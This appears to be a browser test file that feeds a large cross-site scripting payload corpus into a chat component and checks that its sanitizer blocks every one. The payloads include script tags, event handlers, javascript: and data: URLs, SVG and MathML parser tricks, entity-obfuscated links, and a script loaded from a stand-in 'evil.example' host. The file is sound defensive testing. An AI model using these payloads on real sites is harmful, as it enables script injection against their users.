// XSS corpus in a real browser: every payload is delivered as a server would send it
// (page.route answers /chatkit), through every way server text reaches the page:
//   markdown  assistant message text (each payload its own content part, 7-char deltas)
//   html      assistant message text that starts with <div> / <p> (sanitized as HTML)
//   notice    notice message and title
//   citation  annotation sources: javascript:-style url, payload as title
//   widget    widget components (Title, Caption, Text, Markdown, Badge, Box styles, Image,
//             Button with a client action, Label, an unknown component type)
//   fields    everything else: progress text, task/workflow titles and content, thread
//             title, echoed user message, entity/file sources, image url, error message,
//             an unknown item type
// The answers really stream: page.route hands each /chatkit request to a small SSE server
// in this process that writes one event per millisecond, so the component also renders the
// half-received payloads (its open tail block) along the way.
// After each answer the test hovers and clicks what the payloads produced (never the
// component's own buttons; safe http(s) links are only hovered and their href checked),
// then checks in the page: no alert/confirm/prompt/open call, no dialog, no navigation, no
// popup, and a scan of the shadow DOM (and the light DOM) for dangerous elements,
// attributes and URLs.

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import http from 'node:http';
import { after, before, test } from 'node:test';
import { close, newChatPage, openBrowser, recorded, sendMessage, sleep, sseBody, startRecorder, startRuntime, waitForIdle, itemUpdated, imagesSettled } from './harness.mjs';

const PAYLOADS = [
  // script tags
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>script>alert(1)<</script>/script>',
  '<script>/*</script><script>*/alert(1)</script>',
  '<script src="data:text/javascript,alert(1)"></script>',
  '<SCRIPT SRC=//evil.example/xss.js></SCRIPT>',
  '</p><script>alert(String.fromCharCode(88,83,83))</script><p>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  // event handlers
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=x OnErRoR=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<img src=x onerror=alert(1)',
  '<<img src=x onerror=alert(1)//<',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click svg animate</text></a></svg>',
  '<svg><a><set attributeName=href to=javascript:alert(1) /><text x=20 y=20>click svg set</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=\'x\' xmlns=\'http://www.w3.org/2000/svg\'><image href=\'1\' onerror=\'alert(1)\'/></svg>#x"/></svg>',
  '<body onload=alert(1)>',
  '<body background="javascript:alert(1)">',
  '<video><source onerror=alert(1)></video>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<details ontoggle=alert(1)><summary>open me</summary>inside</details>',
  '<div onmouseover=alert(1)>hover me</div>',
  '<input autofocus onfocus=alert(1)>',
  '<input type="image" src="x" onerror="alert(1)">',
  '<button onclick=alert(1)>click me</button>',
  '<marquee onstart=alert(1)>marquee</marquee>',
  '<select autofocus onfocus=alert(1)></select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<a href="#" onclick="alert(1)">onclick link</a>',
  '<a href="mailto:x@example.com" onmouseover="alert(1)">mail link with handler</a>',
  '<div data-part="code-copy" onclick=alert(1)>forged copy</div>',
  // frames, objects, forms, meta, base, link
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<frameset onload=alert(1)>',
  '<portal src="javascript:alert(1)"></portal>',
  '<form action="javascript:alert(1)"><input type=submit value=go></form>',
  '<form><button formaction="javascript:alert(1)">formaction</button></form>',
  '<form id=f></form><button form=f formaction="javascript:alert(1)">outside form</button>',
  '<isindex action=javascript:alert(1) type=submit value=isindex>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel=stylesheet href="javascript:alert(1)">',
  // style tricks
  '<div style="background:url(javascript:alert(1))">styled</div>',
  '<div style="width:expression(alert(1))">expression</div>',
  "<style>@import 'javascript:alert(1)';</style>",
  '<style>*{background:url("javascript:alert(1)")}</style>',
  '<table background="javascript:alert(1)"><tr><td>table bg</td></tr></table>',
  // math, template, noscript, parser differentials
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">maction</maction></math>',
  '<math href="javascript:alert(1)">math href</math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<math><semantics><mi>x</mi><annotation-xml encoding="application/xhtml+xml"><a href="javascript:alert(1)">y</a></annotation-xml></semantics></math>',
  '<math><mglyph src="javascript:alert(1)"></mglyph><mi style="color:red" class="cs-code" href="javascript:alert(1)">z</mi></math>',
  // LaTeX formulas (math-core writes MathML; the sanitizer keeps MathML Core only)
  '$\\text{<img src=x onerror=alert(1)>}$',
  '$\\href{javascript:alert(1)}{click}$',
  '$$\\text{</math><img src=x onerror=alert(1)>}$$',
  '\\(\\unicode{<script>alert(1)</script>}\\)',
  '\\[\\style{background:url(javascript:alert(1))}{x}\\]',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<style><img src="</style><img src=x onerror=alert(1)//">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<code class="language-x&quot; onmouseover=alert(1)">code class</code>',
  // javascript:-style links in HTML
  '<a href="javascript:alert(1)">js link</a>',
  '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
  '<a href="java&#x09;script:alert(1)">tab entity</a>',
  '<a href="&#106;avascript:alert(1)">entity j</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">hex entities</a>',
  '<a href="javascript&colon;alert(1)">colon entity</a>',
  '<a href=" javascript:alert(1)">leading space</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
  '<a href="vbscript:msgbox(1)">vbscript</a>',
  '<a href="javascript:alert(1)" data-part="code-copy">forged copy link</a>',
  '<a href="https://example.com" title=\'"><img src=x onerror=alert(1)>\'>title breakout</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="javascript:alert(1)">',
  // javascript:-style links in markdown
  '[md link](javascript:alert(1))',
  '[md mixed](JaVaScRiPt:alert(1))',
  '[md entity](&#106;avascript:alert(1))',
  '[md tab](java&#x09;script:alert(1))',
  '[md data](data:text/html,<script>alert(1)</script>)',
  '[md vbs](vbscript:msgbox(1))',
  '[md angle](<javascript:alert(1)>)',
  '<javascript:alert(1)>',
  '![md img](javascript:alert(1))',
  '![x](x" onerror="alert(1))',
  '[ref link][r]\n\n[r]: javascript:alert(1)',
  '[t](https://example.com "title\\" onmouseover=\\"alert(1)")',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<script>alert(1)</script>\n```',
];

const JS_URLS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java&#x09;script:alert(1)',
  '&#106;avascript:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
];

const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==',
  'base64',
);

const BATCH = 10;
const batches = [];
for (let i = 0; i < PAYLOADS.length; i += BATCH) batches.push(PAYLOADS.slice(i, i + BATCH));

// ---- building the answers -----------------------------------------------------------------

const THREAD = 'thr_xss';
let nextId = 0;
const id = (prefix) => `${prefix}_${String(++nextId).padStart(6, '0')}`;
const stamp = () => new Date().toISOString();
const item = (type, fields) => ({ id: id(type === 'assistant_message' || type === 'user_message' ? 'msg' : type.slice(0, 4)), thread_id: THREAD, created_at: stamp(), type, ...fields });
const thread = (fields = {}) => ({ id: THREAD, created_at: stamp(), status: { type: 'active' }, metadata: {}, items: { data: [], has_more: false }, ...fields });
const slices = (text, n) => {
  const chars = Array.from(text);
  const out = [];
  for (let i = 0; i < chars.length; i += n) out.push(chars.slice(i, i + n).join(''));
  return out;
};

/** An assistant message streamed part by part in `slice`-char deltas; annotations[i] go with part i. */
function message(parts, { slice = 7, annotations = [] } = {}) {
  const msg = item('assistant_message', { content: [] });
  const events = [{ type: 'thread.item.added', item: msg }];
  const content = parts.map((text, i) => ({ type: 'output_text', text, annotations: annotations[i] ?? [] }));
  parts.forEach((text, i) => {
    events.push(itemUpdated(msg.id, { type: 'assistant_message.content_part.added', content_index: i, content: { type: 'output_text', text: '', annotations: [] } }));
    for (const delta of slices(text, slice)) {
      events.push(itemUpdated(msg.id, { type: 'assistant_message.content_part.text_delta', content_index: i, delta }));
    }
    (annotations[i] ?? []).forEach((annotation, k) =>
      events.push(itemUpdated(msg.id, { type: 'assistant_message.content_part.annotation_added', content_index: i, annotation_index: k, annotation })),
    );
    events.push(itemUpdated(msg.id, { type: 'assistant_message.content_part.done', content_index: i, content: content[i] }));
  });
  events.push({ type: 'thread.item.done', item: { ...msg, content } });
  return events;
}

const endMarker = (n, mode) => `XSS-END-${mode}-${n}`;

/** The events (after the user message echo) of the answer to batch `n` in `mode`. */
function answer(mode, batch, n) {
  const end = endMarker(n, mode);
  switch (mode) {
    case 'markdown':
      return message([...batch, end]);
    case 'entities':
      return message([...batch, `<p>${end}</p>`], { slice: 997 });
    case 'html':
      return message([...batch.map((p, i) => (i % 2 ? `<p>${p}</p>` : `<div>${p}</div>`)), `<p>${end}</p>`], { slice: 23 });
    case 'notice':
      return [
        ...batch.map((p) => ({ type: 'notice', level: 'danger', message: p, title: p })),
        ...message([end]),
      ];
    case 'citation': {
      const claims = batch.map((_, i) => `Claim ${i}.`);
      let text = '';
      const anns = [];
      claims.forEach((claim, i) => {
        text += `${claim} `;
        anns.push({
          type: 'annotation',
          index: Array.from(text).length - 1,
          source: { type: 'url', title: batch[i], description: batch[i], url: `${JS_URLS[i % JS_URLS.length]}${i}`, attribution: batch[i], group: batch[i] },
        });
      });
      return message([`${text}${end}`], { annotations: [anns] });
    }
    case 'fields': {
      const p = (i) => batch[i % batch.length];
      const events = [];
      events.push({ type: 'progress_update', icon: p(0), text: p(0) });
      const task = item('task', { task: { type: 'custom', status_indicator: 'loading', title: p(1), icon: p(1), content: p(2) } });
      events.push({ type: 'thread.item.added', item: task });
      events.push({ type: 'thread.item.done', item: { ...task, task: { ...task.task, status_indicator: 'complete' } } });
      const workflow = item('workflow', {
        workflow: {
          type: 'custom',
          expanded: true,
          summary: { title: p(3), icon: p(3) },
          tasks: [
            { type: 'custom', status_indicator: 'complete', title: p(4), icon: p(4), content: p(5) },
            { type: 'thought', status_indicator: 'none', title: p(6), content: p(6) },
            { type: 'web_search', status_indicator: 'complete', title: p(3), title_query: p(3), queries: [p(3)], sources: [{ type: 'url', title: p(3), url: JS_URLS[n % JS_URLS.length] }] },
            { type: 'file', status_indicator: 'complete', title: p(5), sources: [{ type: 'file', title: p(5), filename: p(5) }] },
            { type: 'image', status_indicator: 'complete', title: p(4) },
          ],
        },
      });
      events.push({ type: 'thread.item.added', item: workflow });
      events.push({ type: 'thread.item.done', item: workflow });
      events.push({ type: 'thread.updated', thread: thread({ title: p(7) }) });
      const image = item('generated_image', {});
      events.push({ type: 'thread.item.added', item: image });
      const url = [JS_URLS[n % JS_URLS.length], 'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+', `https://example.com/x.png" onerror="alert(1)`][n % 3];
      events.push(itemUpdated(image.id, { type: 'generated_image.updated', image: { id: id('img'), url }, progress: 0.5 }));
      events.push({ type: 'thread.item.done', item: { ...image, image: { id: id('img'), url } } });
      // An item type this client does not know, named by the payload.
      events.push({ type: 'thread.item.done', item: item('widget', { type: p(8) }) });
      const entity = {
        type: 'entity', id: p(9), title: p(9), label: p(9), inline_label: p(9), icon: p(9), description: p(9), interactive: true, data: { html: p(9) },
      };
      const file = { type: 'file', title: p(9), filename: p(9), description: p(9) };
      events.push(...message([`Fields batch ${n}. ${end}`], { annotations: [[{ type: 'annotation', index: 5, source: entity }, { type: 'annotation', index: 10, source: file }]] }));
      events.push({ type: 'error', code: p(0), message: p(1), allow_retry: true });
      return events;
    }
    case 'widget': {
      // Widget components carrying the payloads (no Icon, Chart or Form: those are the
      // component's own svg and form elements, which the scan would rightly flag).
      const p = (i) => batch[i % batch.length];
      const js = JS_URLS[n % JS_URLS.length];
      const widget = {
        type: 'Card',
        key: p(0),
        size: 'md',
        status: { text: p(0) },
        children: [
          { type: 'Title', value: p(0) },
          { type: 'Caption', value: p(1) },
          { type: 'Text', value: p(2) },
          { type: 'Markdown', value: p(3) },
          { type: 'Badge', label: p(4), color: 'url(javascript:alert(1))' },
          {
            type: 'Box',
            background: 'url(javascript:alert(1))',
            padding: 'expression(alert(1))',
            radius: p(5),
            children: [{ type: 'Text', value: p(5), color: 'red;background:url(javascript:alert(1))' }],
          },
          { type: 'Image', src: js, alt: p(6) },
          { type: 'Image', src: 'https://example.com/i.png" onerror="alert(1)', alt: p(6) },
          { type: 'Button', label: p(7), onClickAction: { type: p(7), payload: { html: p(7) }, handler: 'client' } },
          { type: 'Label', value: p(8) },
          // A component type this client does not know, named by the payload.
          { type: p(9), value: p(9), children: [{ type: 'Text', value: p(9) }] },
        ],
      };
      return [
        { type: 'thread.item.done', item: item('widget', { widget, copy_text: p(0) }) },
        ...message([`Widget batch ${n}. ${end}`]),
      ];
    }
    default:
      throw new Error(mode);
  }
}

// ---- the browser side ---------------------------------------------------------------------

let runtime;
let context;
let page;
const dialogs = [];
const popups = [];
const navigations = [];
const unexpected = [];
let current = null; // { mode, batch, n }: what the next /chatkit request answers

/** Streams the queued answers, one SSE event per write, about a millisecond apart. */
const answersToStream = new Map();
let sseServer;
let sseUrl;

async function startSseServer() {
  sseServer = http.createServer(async (req, res) => {
    const events = answersToStream.get(req.url);
    answersToStream.delete(req.url);
    if (!events) {
      res.writeHead(404).end();
      return;
    }
    req.resume();
    res.socket.setNoDelay(true);
    res.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-store' });
    for (const event of events) {
      res.write(sseBody([event]));
      // Time itself: the answer streams, so it is rendered half-received too.
      await sleep(1);
    }
    res.end();
  });
  await new Promise((resolve) => sseServer.listen(0, '127.0.0.1', resolve));
  sseUrl = `http://127.0.0.1:${sseServer.address().port}`;
}

before(async () => {
  await startSseServer();
  runtime = await startRuntime({ paceMs: 0 });
  context = await openBrowser();
  // Nothing but the test server may load: a navigation or request elsewhere fails. Images
  // from elsewhere (sanitized https: image URLs are allowed) get a 1x1 PNG instead, so
  // Chromium does not log a failed load.
  await context.route('**/*', (route) => {
    const request = route.request();
    if (request.url().startsWith(runtime.url)) return route.fallback();
    if (request.resourceType() === 'image') return route.fulfill({ status: 200, contentType: 'image/png', body: PIXEL });
    return route.abort();
  });
  await context.addInitScript(() => {
    // The rules every element in the shadow DOM must follow (used by scan() and the live watch).
    window.__xssRules = (el, composer) => {
      const bad = [];
      const FORBIDDEN = new Set(['script', 'iframe', 'object', 'embed', 'form', 'meta', 'base', 'link', 'style', 'svg', 'frame', 'frameset', 'applet', 'portal', 'isindex']);
      // Formulas are MathML Core, and nothing of MathML beyond it: no link, style or class.
      const MATHML = 'http://www.w3.org/1998/Math/MathML';
      const MATHML_CORE = new Set(['math', 'semantics', 'annotation', 'merror', 'mfrac', 'mi', 'mmultiscripts', 'mn', 'mo', 'mover', 'mpadded', 'mphantom', 'mprescripts', 'mroot', 'mrow', 'ms', 'mspace', 'msqrt', 'mstyle', 'msub', 'msubsup', 'msup', 'mtable', 'mtd', 'mtext', 'mtr', 'munder', 'munderover']);
      const URL_ATTRS = new Set(['href', 'src', 'action', 'formaction', 'xlink:href', 'srcset', 'poster', 'background', 'data', 'ping', 'lowsrc', 'dynsrc', 'cite', 'codebase', 'manifest']);
      const show = () => el.outerHTML.slice(0, 160);
      const tag = el.localName;
      // The component's own icons: an aria-hidden <svg class="cs-w-icon|cs-glyph"> holding
      // only <path d class>. The sanitizer strips every <svg> from server content, so
      // nothing else may look like this; an injected svg with anything more still fails.
      const svgRoot = tag === 'svg' ? el : el.closest('svg');
      const ownIcon =
        svgRoot &&
        /(^|\s)(cs-w-icon|cs-glyph|cs-start__icon)(\s|$)/.test(svgRoot.getAttribute('class') || '') &&
        svgRoot.getAttribute('aria-hidden') === 'true' &&
        [...svgRoot.attributes].every((a) => ['class', 'viewbox', 'aria-hidden', 'focusable', 'data-icon', 'style'].includes(a.name.toLowerCase())) &&
        [...svgRoot.querySelectorAll('*')].every((c) => c.localName === 'path' && [...c.attributes].every((a) => a.name === 'd' || a.name === 'class'));
      if (ownIcon) {
        const style = svgRoot.getAttribute('style') || '';
        return /url\s*\(|expression/i.test(style) ? [`style attribute on an icon: ${show()}`] : [];
      }
      if (FORBIDDEN.has(tag) && el !== composer) bad.push(`<${tag}> element: ${show()}`);
      if (el.namespaceURI === MATHML) {
        if (!MATHML_CORE.has(tag)) bad.push(`MathML beyond MathML Core, <${tag}>: ${show()}`);
        for (const attr of el.attributes) {
          if (['style', 'class', 'href', 'src'].includes(attr.name.toLowerCase()) || attr.name.includes(':')) bad.push(`${attr.name} on MathML: ${show()}`);
        }
      } else if (el.namespaceURI !== 'http://www.w3.org/1999/xhtml') {
        bad.push(`foreign element ${el.namespaceURI} ${tag}: ${show()}`);
      }
      for (const attr of el.attributes) {
        const name = attr.name.toLowerCase();
        const value = attr.value;
        if (name.startsWith('on')) bad.push(`${name} attribute: ${show()}`);
        if (name === 'style' && /url\s*\(|expression/i.test(value)) bad.push(`style attribute: ${show()}`);
        if (URL_ATTRS.has(name) || name.endsWith(':href')) {
          const ok =
            /^(https?:|mailto:|blob:)/i.test(value) ||
            (tag === 'img' && name === 'src' && /^data:image\/(png|jpeg|gif|webp);base64,/i.test(value));
          if (!ok) bad.push(`${name}="${value}": ${show()}`);
        }
      }
      return bad;
    };
    window.__xss = 0;
    const trap = (name) => {
      window[name] = (...args) => {
        window.__xss += 1;
        (window.__xssCalls ??= []).push(`${name}(${args.map(String).join(',')})`);
      };
    };
    for (const name of ['alert', 'confirm', 'prompt', 'open', 'print']) trap(name);
  });
  page = await newChatPage(context, `${runtime.url}/`);
  context.on('page', (p) => popups.push(p.url() || 'a new page'));
  page.on('dialog', (d) => {
    dialogs.push(`${d.type()}: ${d.message()}`);
    d.dismiss().catch(() => {});
  });
  page.on('framenavigated', (frame) => {
    navigations.push(`${frame === page.mainFrame() ? 'main' : 'sub'} frame -> ${frame.url()}`);
  });
  await page.route('**/chatkit', async (route) => {
    const request = JSON.parse(route.request().postData());
    if (request.type !== 'threads.create' && request.type !== 'threads.add_user_message') {
      // Nothing in the payloads should make the component call the server on its own.
      unexpected.push(request.type);
      await route.fulfill({ status: 400, contentType: 'application/json', body: '{"error":"unexpected request"}' });
      return;
    }
    const { mode, batch, n } = current;
    const events = [];
    if (request.type === 'threads.create') events.push({ type: 'thread.created', thread: thread() });
    const echo = mode === 'fields' ? batch[8 % batch.length] : request.params.input.content[0].text;
    events.push({ type: 'thread.item.done', item: item('user_message', { content: [{ type: 'input_text', text: echo }], attachments: [], inference_options: {} }) });
    events.push({ type: 'stream_options', stream_options: { allow_cancel: true } });
    events.push(...answer(mode, batch, n));
    const key = `/sse/${mode}/${n}/${id('req')}`;
    answersToStream.set(key, events);
    // The page still sees its own /chatkit request; only the bytes come from the SSE server.
    await route.continue({ url: `${sseUrl}${key}` });
  });
  page.lightDomSize = await page.evaluate(() => document.querySelectorAll('*').length);
  // Streaming states of the newest answer: to check the payloads were rendered half-received too.
  await startRecorder(page, {
    busy: 'article[data-role="assistant"][aria-busy="true"]',
    streamed: { sel: 'article[data-role="assistant"][aria-busy="true"] .cs-msg__body', read: 'text' },
  });
  await watchLive();
});
after(async () => {
  await close();
  await new Promise((resolve) => sseServer?.close(resolve) ?? resolve());
});

/**
 * Hovers every link, button, image and summary the answers produced that was not handled
 * yet, and clicks the buttons and summaries and every link whose href is not a plain
 * http(s)/mailto URL (a safe link would only open a new tab). The component's own controls
 * are left alone.
 */
async function interact() {
  const count = await page.evaluate(() => {
    const root = document.querySelector('chat-shell').shadowRoot;
    const seen = (window.__xssSeen ??= new WeakSet());
    const own = (el) =>
      el.closest('[data-part="message-actions"], [data-part="error"], [part="composer"], header') ||
      el.matches('[aria-label="Dismiss notice"], [aria-label="Scroll to bottom"], [data-part="code-copy"].cs-code__copy');
    const targets = [...root.querySelector('[part="viewport"]').querySelectorAll('a, button, img, summary, details, [tabindex]')].filter(
      (el) => !seen.has(el) && !own(el),
    );
    for (const el of targets) seen.add(el);
    window.__xssTargets = targets.map((el) => ({
      el,
      click:
        el.localName === 'button' ||
        el.localName === 'summary' ||
        (el.localName === 'a' && !/^(https?:|mailto:)/i.test(el.getAttribute('href') ?? '')),
    }));
    return targets.length;
  });
  for (let i = 0; i < count; i++) {
    const handle = await page.evaluateHandle((i) => window.__xssTargets[i].el, i);
    const click = await page.evaluate((i) => window.__xssTargets[i].click, i);
    const el = handle.asElement();
    if (!el || !(await el.evaluate((e) => e.isConnected))) continue;
    await el.hover({ force: true, timeout: 1_000 }).catch(() => {});
    if (click) await el.click({ force: true, timeout: 1_000, noWaitAfter: true }).catch(() => {});
    await handle.dispose();
  }
  // Synthetic events on everything left in the answers (covers handlers on any element).
  await page.evaluate(() => {
    const root = document.querySelector('chat-shell').shadowRoot;
    for (const el of root.querySelector('[part="viewport"]').querySelectorAll('.cs-md *, [data-part="notice"] *, [data-part="source"] *')) {
      for (const type of ['mouseover', 'mouseenter', 'focus', 'focusin', 'animationstart', 'toggle']) {
        el.dispatchEvent(new Event(type, { bubbles: false }));
      }
    }
  });
  return count;
}

/**
 * Everything dangerous found in the shadow DOM (and the light DOM), as readable strings,
 * plus what the live watch saw at any moment since the last scan (markup that was in the
 * DOM only while an answer streamed, for a frame or less).
 */
async function scan() {
  return page.evaluate((lightDomSize) => {
    const root = document.querySelector('chat-shell').shadowRoot;
    // The component's own composer is the one form allowed.
    const composer = root.querySelector('[part="composer"] > form[data-part="composer"]');
    const bad = [];
    for (const el of root.querySelectorAll('*')) bad.push(...window.__xssRules(el, composer));
    bad.push(...window.__xssLive.splice(0).map((v) => `while streaming: ${v}`));
    // The light DOM is the demo page's: the component must not add to it.
    if (document.querySelectorAll('*').length !== lightDomSize) bad.push(`light DOM changed: ${document.body.innerHTML.slice(0, 300)}`);
    if (window.__xss !== 0) bad.push(`window.__xss = ${window.__xss}: ${(window.__xssCalls ?? []).join('; ')}`);
    return bad;
  }, page.lightDomSize);
}

/** Checks every element added to the shadow DOM, and every attribute change, as it happens. */
async function watchLive() {
  await page.evaluate(() => {
    const root = document.querySelector('chat-shell').shadowRoot;
    const composer = root.querySelector('[part="composer"] > form[data-part="composer"]');
    window.__xssLive = [];
    const check = (el) => {
      for (const v of window.__xssRules(el, composer)) if (!window.__xssLive.includes(v)) window.__xssLive.push(v);
    };
    new MutationObserver((records) => {
      for (const r of records) {
        if (r.type === 'attributes') check(r.target);
        for (const node of r.addedNodes) {
          if (node.nodeType !== 1) continue;
          check(node);
          for (const el of node.querySelectorAll('*')) check(el);
        }
      }
    }).observe(root, { subtree: true, childList: true, attributes: true });
  });
}

test('the scan finds planted dangerous markup (self-check)', async () => {
  await page.evaluate(() => {
    const root = document.querySelector('chat-shell').shadowRoot.querySelector('[part="viewport"]');
    const planted = document.createElement('div');
    planted.id = 'xss-canary';
    planted.hidden = true; // not rendered: its style must not load anything
    const a = document.createElement('a');
    a.setAttribute('href', 'javascript:void 0');
    const b = document.createElement('b');
    b.setAttribute('onclick', 'void 0');
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const img = document.createElement('img');
    img.setAttribute('src', 'data:text/html,x');
    const s = document.createElement('span');
    s.setAttribute('style', 'background:url(data:,x)');
    planted.append(a, b, svg, img, s);
    root.append(planted);
  });
  const found = await scan();
  await page.evaluate(() => document.querySelector('chat-shell').shadowRoot.getElementById('xss-canary').remove());
  // 6 in the DOM (the svg counts twice: forbidden and foreign), the same 6 from the live watch.
  assert.equal(found.length, 12, JSON.stringify(found, null, 1));
  assert.equal(found.filter((f) => f.startsWith('while streaming: ')).length, 6, JSON.stringify(found, null, 1));
  assert.deepEqual(await scan(), []);
  // The page's Content-Security-Policy refused the canary's inline handler and style, as
  // it would any that got through: those two refusals are the canary's, not the corpus's.
  const refused = page.consoleErrors.splice(0);
  assert.equal(refused.length, 2, refused.join('\n'));
  assert.ok(refused.some((e) => e.includes('inline event handler')), refused.join('\n'));
  assert.ok(refused.some((e) => e.includes('inline style')), refused.join('\n'));
});

const MODES = ['markdown', 'html', 'notice', 'citation', 'fields', 'widget'];
let delivered = 0;
let answers = 0;

for (const mode of MODES) {
  test(`XSS corpus as ${mode} (${PAYLOADS.length} payloads in ${batches.length} answers)`, async (t) => {
    let clicked = 0;
    let streamedRenders = 0;
    for (const [n, batch] of batches.entries()) {
      current = { mode, batch, n };
      // This batch's items are the ones with ids made from now on (`id()` counts up): only
      // a window of a long thread is mounted, and items scrolled out and back are new
      // elements, so new answers are told by their ids (their wrapper's `data-item`), not
      // by totals or marks.
      const from = nextId;
      await page.evaluate(() => (window.__recorder.log.length = 0));
      await sendMessage(page, `xss ${mode} batch ${n}`);
      await waitForIdle(page, { timeout: 10_000, settle: 100 });
      if (mode === 'markdown' || mode === 'html') {
        const log = await recorded(page);
        const partial = log.filter((s) => s.busy > 0 && s.streamed);
        assert.ok(partial.length > 0, `batch ${n}: the answer was never rendered while streaming`);
        streamedRenders += partial.length;
      }
      const fresh = (selector) =>
        page.evaluate(
          ({ selector, from }) => {
            const root = document.querySelector('chat-shell').shadowRoot;
            const made = (el) => Number(/_(\d+)$/.exec(el.closest('.cs-item')?.dataset.item ?? '')?.[1] ?? 0);
            return [...root.querySelectorAll(selector)].filter((el) => made(el) > from).length;
          },
          { selector, from },
        );
      assert.equal(await fresh('article[data-role="assistant"]'), 1, `batch ${n}: no new assistant answer (or more than one)`);
      if (mode === 'widget') {
        const widgets = await fresh('[data-part="widget"], [data-part="unsupported"]');
        assert.equal(widgets, 1, `batch ${n}: the widget was not shown (nor an unsupported card)`);
      }
      // The last part rendered: the batch was not cut short.
      const answerText = await page.locator('article[data-role="assistant"]').last().textContent();
      assert.ok(answerText.includes(endMarker(n, mode)), `batch ${n}: the answer is incomplete: ${answerText.slice(-300)}`);
      // What the answer holds has loaded or failed (an injected handler would have run),
      // and so has what the hovers and clicks set off.
      await imagesSettled(page);
      clicked += await interact();
      await imagesSettled(page);
      const found = await scan();
      assert.deepEqual(found, [], `${mode} batch ${n}: ${JSON.stringify(batch)}`);
      assert.deepEqual(dialogs, [], `${mode} batch ${n}: dialogs opened`);
      assert.deepEqual(popups, [], `${mode} batch ${n}: popups opened`);
      assert.deepEqual(navigations, [], `${mode} batch ${n}: navigations`);
      assert.deepEqual(unexpected, [], `${mode} batch ${n}: requests to the server besides the messages`);
      assert.deepEqual(page.consoleErrors, [], `${mode} batch ${n}: console errors`);
      delivered += batch.length;
      answers += 1;
      if (mode === 'notice') {
        // Dismiss them all (with the component's own buttons) so the next batch starts clean.
        await page.evaluate(() => {
          const root = document.querySelector('chat-shell').shadowRoot;
          for (const b of root.querySelectorAll('[aria-label="Dismiss notice"]')) b.click();
        });
        await page.locator('[data-part="notice"]').first().waitFor({ state: 'detached', timeout: 2_000 });
      }
    }
    const streamed = mode === 'markdown' || mode === 'html' ? `, ${streamedRenders} renderings of half-received text` : '';
    t.diagnostic(`${mode}: ${PAYLOADS.length} payloads, ${batches.length} answers, ${clicked} elements hovered/clicked${streamed}`);
  });
}

// html5ever's named character references come from crates/web-atoms (a compact table in
// place of upstream's map of prefixes), and so does its table for numeric references to
// U+0080..U+009F (read as windows-1252): every one of them, in an answer's raw HTML, must
// read as Chromium reads the same markup. Each follows U+E000 (a private-use character no
// reference stands for), so a name without its `;` (`&not`) is decoded as a legacy one
// and a longer name is never formed by accident.
test('every named character reference, and every numeric one to U+0080..U+009F, in raw HTML reads as the browser reads it', async () => {
  const names = readFileSync(new URL('../../crates/web-atoms/data/entities.txt', import.meta.url), 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((line) => line.split('\t')[0]);
  assert.equal(names.length, 2231, 'the standard lists 2,231 named character references');
  const c1 = Array.from({ length: 32 }, (_, i) => `#x${(0x80 + i).toString(16)};`);
  const refs = [...names, ...c1];
  const SEP = '\u{e000}';
  const markup = `<div>${SEP}${refs.map((ref) => `&${ref}${SEP}`).join('')}</div>`;
  current = { mode: 'entities', batch: [markup], n: 0 };
  await sendMessage(page, 'every named character reference');
  await waitForIdle(page, { timeout: 15_000, settle: 100 });
  const body = page.locator('article[data-role="assistant"]').last().locator('.cs-msg__body');
  const shown = (await body.locator('div').first().textContent()).split(SEP).slice(1, -1);
  const expected = await page.evaluate(({ html, sep }) => {
    const doc = new DOMParser().parseFromString(html, 'text/html');
